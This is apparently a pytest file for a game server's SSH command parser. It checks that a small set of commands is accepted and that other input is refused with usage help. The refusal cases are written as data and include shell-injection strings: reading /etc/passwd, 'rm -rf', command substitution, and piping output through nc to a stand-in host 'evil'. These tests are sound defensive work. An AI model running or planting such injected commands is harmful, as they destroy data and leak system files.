"""The commands `ssh host COMMAND` accepts (core/commands.py): a fixed list of plain words;
anything else is refused whole, with the list of what is accepted."""

from __future__ import annotations

import pytest

from harena.core.commands import (
    MAX_COMMAND,
    CommandRefused,
    JoinCode,
    OpenTable,
    PlayGame,
    ShowRatings,
    ShowReview,
    Status,
    command_text,
    parse_command,
)

GAMES = ["carthage", "spartacus"]
SSH = "ssh -p 2022 play.example.org"
"""How the server says it is reached (server/transport/ssh_address.py): the refusal's lines start so."""


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("table 7", OpenTable("7")),
        ("  table   07 ", OpenTable("7")),
        ("TABLE 12", OpenTable("12")),
        ("play carthage", PlayGame("carthage")),
        ("play Spartacus", PlayGame("spartacus")),
        ("status", Status()),
        ("ratings", ShowRatings()),
        ("ratings carthage", ShowRatings("carthage")),
        ("play carthage private", PlayGame("carthage", private=True)),
        ("join abcd-efgh-ijkm-npqr", JoinCode("abcd-efgh-ijkm-npqr")),
        ("table pk3m9x2q", OpenTable("pk3m9x2q")),  # a private table's id (core/privacy.py)
        ("review 3", ShowReview("3")),
        ("review pk3m9x2q", ShowReview("pk3m9x2q")),
    ],
)
def test_the_four_commands_are_read(text, command):
    assert parse_command(text, GAMES, SSH) == command
    assert parse_command(command_text(command), GAMES, SSH) == command  # as the server says it


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("status; cat /etc/passwd", "no shell"),
        ("table 7 && rm -rf ~", "no shell"),
        ("table $(id)", "no shell"),
        ("table `id`", "no shell"),
        ("play 'carthage'", "no shell"),
        ("status | nc evil 80", "no shell"),
        ("status\nrm -rf /", "one line"),
        ("status\rx", "one line"),
        ("table 7\x1b[2J", "no shell"),
        ("x" * (MAX_COMMAND + 1), "at most"),
        ("bash", "unknown command `bash`"),
        ("sftp", "unknown command"),
        ("", "empty"),
        ("table", "`table N`"),
        ("table seven", "`table N`"),
        ("table 1234567890", "`table N`"),
        ("play chess", "`play carthage|spartacus`"),
        ("status now", "`status`"),
        ("ratings chess", "`ratings [GAME]`"),
        ("table 7.5", "plain words"),
    ],
)
def test_anything_else_is_refused_with_what_is_accepted(text, why):
    with pytest.raises(CommandRefused) as refused:
        parse_command(text, GAMES, SSH)
    message = str(refused.value)
    assert why in message
    for usage in ("table N", "play carthage|spartacus", "status", "ratings"):
        assert f"\n  {SSH} {usage}" in message  # each command as the player types it
    assert message.endswith(f"\n  {SSH}{' ' * 26}the lobby")
    assert "HOST" not in message


def test_a_refusal_never_echoes_a_long_command():
    with pytest.raises(CommandRefused) as refused:
        parse_command("a" * 60, GAMES, SSH)
    assert "a" * 20 not in str(refused.value)


def test_join_and_private_are_listed_and_a_bare_play_is_explained_as_before():
    with pytest.raises(CommandRefused) as refused:
        parse_command("play", GAMES, SSH)
    assert "`play` is used as `play carthage|spartacus`" in str(refused.value)
    assert "join CODE" in str(refused.value) and "play carthage|spartacus private" in str(
        refused.value
    )
